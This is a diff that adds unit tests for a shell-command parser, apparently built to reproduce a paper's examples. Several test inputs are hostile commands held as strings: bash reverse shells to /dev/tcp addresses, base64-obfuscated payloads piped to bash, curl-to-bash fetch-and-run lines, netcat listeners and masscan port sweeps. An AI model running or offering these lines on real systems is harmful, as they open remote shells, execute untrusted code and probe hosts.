@@ -1,0 +1,240 @@
+"""Unit tests for the shell parser."""
+
+import pytest
+
+from repro.errors import ShellSyntaxError
+from repro.shell import (
+    BraceGroup,
+    Parser,
+    SimpleCommand,
+    Subshell,
+    parse,
+    walk_simple_commands,
+)
+
+
+def names(line):
+    return [c.command_name for c in walk_simple_commands(parse(line))]
+
+
+class TestSimpleCommands:
+    def test_name_and_args(self):
+        ast = parse("python main.py --verbose")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name == "python"
+        assert cmd.arguments == ["main.py"]
+        assert cmd.flags == ["--verbose"]
+
+    def test_bare_command(self):
+        assert names("ls") == ["ls"]
+
+    def test_assignment_prefix(self):
+        ast = parse("FOO=bar python app.py")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.assignments[0].name == "FOO"
+        assert cmd.assignments[0].value == "bar"
+        assert cmd.command_name == "python"
+
+    def test_bare_assignment_no_command(self):
+        ast = parse("https_proxy=http://proxy:8080")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name is None
+        assert cmd.assignments[0].name == "https_proxy"
+
+    def test_export_style_line(self):
+        ast = parse('export https_proxy="http://x:3128"')
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name == "export"
+        # the NAME="..." word stays an argument of export
+        assert any("https_proxy" in a for a in cmd.arguments)
+
+    def test_assignment_after_name_is_argument(self):
+        ast = parse("env FOO=bar")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name == "env"
+        assert cmd.arguments == ["FOO=bar"]
+
+    def test_empty_line_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("")
+
+    def test_whitespace_line_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("   ")
+
+    def test_comment_only_line_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("# nothing here")
+
+
+class TestPipelines:
+    def test_two_stage_pipeline(self):
+        ast = parse("curl https://x/s.sh | bash")
+        assert len(ast.pipelines) == 1
+        assert names("curl https://x/s.sh | bash") == ["curl", "bash"]
+
+    def test_three_stage_pipeline(self):
+        assert names("cat f | grep x | wc -l") == ["cat", "grep", "wc"]
+
+    def test_trailing_pipe_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("ls |")
+
+    def test_leading_pipe_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("| ls")
+
+    def test_double_pipe_into_empty_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("a | | b")
+
+    def test_negated_pipeline(self):
+        ast = parse("! grep -q root /etc/passwd")
+        assert ast.pipelines[0].negated is True
+
+    def test_pipe_stderr_recorded(self):
+        ast = parse("make |& tee log")
+        assert ast.pipelines[0].pipe_stderr == [True]
+
+
+class TestLists:
+    def test_and_list(self):
+        ast = parse("make && make install")
+        assert ast.operators == ["&&"]
+        assert len(ast.pipelines) == 2
+
+    def test_or_list(self):
+        ast = parse("test -f x || touch x")
+        assert ast.operators == ["||"]
+
+    def test_semicolon_sequence(self):
+        assert names("cd /tmp; ls; pwd") == ["cd", "ls", "pwd"]
+
+    def test_trailing_semicolon_ok(self):
+        ast = parse("ls;")
+        assert ast.terminator == ";"
+
+    def test_trailing_ampersand_background(self):
+        ast = parse("sleep 100 &")
+        assert ast.terminator == "&"
+
+    def test_trailing_and_and_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("ls &&")
+
+    def test_leading_and_and_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("&& ls")
+
+    def test_mixed_operators(self):
+        ast = parse("a && b || c; d")
+        assert ast.operators == ["&&", "||", ";"]
+
+
+class TestRedirections:
+    def test_output_redirect(self):
+        ast = parse("echo hi > /tmp/out")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.redirects[0].operator == ">"
+        assert cmd.redirects[0].target.raw == "/tmp/out"
+
+    def test_fd_redirect(self):
+        ast = parse("cmd 2> /dev/null")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.redirects[0].fd == 2
+
+    def test_stderr_to_stdout(self):
+        ast = parse("cmd 2>&1")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.redirects[0].operator == ">&"
+        assert cmd.redirects[0].target.raw == "1"
+
+    def test_reverse_shell_redirects_parse(self):
+        # the classic bash reverse shell from Table III
+        ast = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name == "bash"
+        assert len(cmd.redirects) == 2
+
+    def test_missing_redirect_target_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("echo hi >")
+
+    def test_paper_invalid_arrow_line_raises(self):
+        # Figure 2's invalid example: "/*/*/* -> /*/*/* ->"
+        with pytest.raises(ShellSyntaxError):
+            parse("/a/b/c -> /d/e/f ->")
+
+    def test_redirect_before_command_name(self):
+        ast = parse("> /tmp/empty")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.command_name is None
+        assert cmd.redirects[0].target.raw == "/tmp/empty"
+
+    def test_append_redirect(self):
+        ast = parse("masscan 1.2.3.4 -p 0-65535 --rate=1000 >> tmp.txt")
+        cmd = next(walk_simple_commands(ast))
+        assert cmd.redirects[0].operator == ">>"
+
+
+class TestCompound:
+    def test_subshell(self):
+        ast = parse("(cd /tmp && ls)")
+        assert isinstance(ast.pipelines[0].commands[0], Subshell)
+        assert names("(cd /tmp && ls)") == ["cd", "ls"]
+
+    def test_subshell_in_pipeline(self):
+        assert names("(cat a; cat b) | sort") == ["cat", "cat", "sort"]
+
+    def test_unbalanced_paren_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("(ls")
+
+    def test_stray_close_paren_raises(self):
+        with pytest.raises(ShellSyntaxError):
+            parse("ls )")
+
+    def test_brace_group(self):
+        ast = parse("{ cd /tmp && ls; }")
+        assert isinstance(ast.pipelines[0].commands[0], BraceGroup)
+
+    def test_nested_subshell(self):
+        assert names("((ls))") == ["ls"]
+
+
+class TestRealWorldLines:
+    """Lines drawn from the paper's figures and tables must parse."""
+
+    PAPER_LINES = [
+        'php -r "phpinfo();"',
+        "python main.py",
+        "vim ~/.bashrc",
+        "curl https://x.example/a.sh | bash",
+        'df -h | grep "/dev/sda"',
+        "dcoker attach --sig-proxy=false abc123",
+        "chdmod +x install.sh",
+        "watch -n 1 nvidia-smi",
+        "nc -lvnp 4444",
+        "nc -ulp 5555",
+        "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
+        "sh /root/masscan.sh 10.0.0.2 -p 0-65535",
+        "bash -i >& /dev/tcp/10.1.2.3/443 0>&1",
+        'java -cp tmp.jar "bash=bash -i >& /dev/tcp/1.2.3.4/9001"',
+        'export https_proxy="http://10.0.0.9:3128"',
+        'export https_proxy="socks5://10.0.0.9:1080"',
+        'java -jar tmp.jar -C "bash -c {echo,YWJj} {base64,-d} {bash,-i}"',
+        'python3 tmp.py -p "bash -c {echo,YWJj} {base64,-d} {base,-i}"',
+        "echo YWJjCg== | base64 -d | bash -i",
+    ]
+
+    @pytest.mark.parametrize("line", PAPER_LINES)
+    def test_paper_line_parses(self, line):
+        ast = parse(line)
+        assert len(ast.pipelines) >= 1
+
+    def test_parser_reusable(self):
+        parser = Parser()
+        first = parser.parse("ls -l")
+        second = parser.parse("pwd")
+        assert isinstance(first.pipelines[0].commands[0], SimpleCommand)
+        assert isinstance(second.pipelines[0].commands[0], SimpleCommand)
